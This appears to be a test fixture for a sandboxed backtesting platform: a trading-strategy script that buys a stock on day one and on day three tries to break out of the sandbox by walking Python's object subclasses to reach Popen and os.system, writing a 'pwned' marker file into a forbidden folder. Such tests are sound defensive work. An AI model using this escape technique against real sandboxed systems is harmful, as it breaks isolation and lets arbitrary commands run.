# Escape attempt: ().__class__.__mro__[1].__subclasses__() to Popen / os.system
# Buys on day 1, attacks on day 3; OUTSIDE is a folder the isolated run must not reach.

OUTSIDE = "__OUTSIDE__"


def initialize(context):
    g.day = 0
    set_universe(["600570.SS"])


def handle_data(context, data):
    g.day += 1
    if g.day == 1:
        order_value("600570.SS", 100000)
    if g.day == 3:
        log.info("attacking")
        classes = {c.__name__: c for c in ().__class__.__mro__[1].__subclasses__()}
        if "Popen" in classes:
            classes["Popen"](["touch", OUTSIDE + "/pwned"]).wait()
        classes["_wrap_close"].__init__.__globals__["system"]("touch " + OUTSIDE + "/pwned")
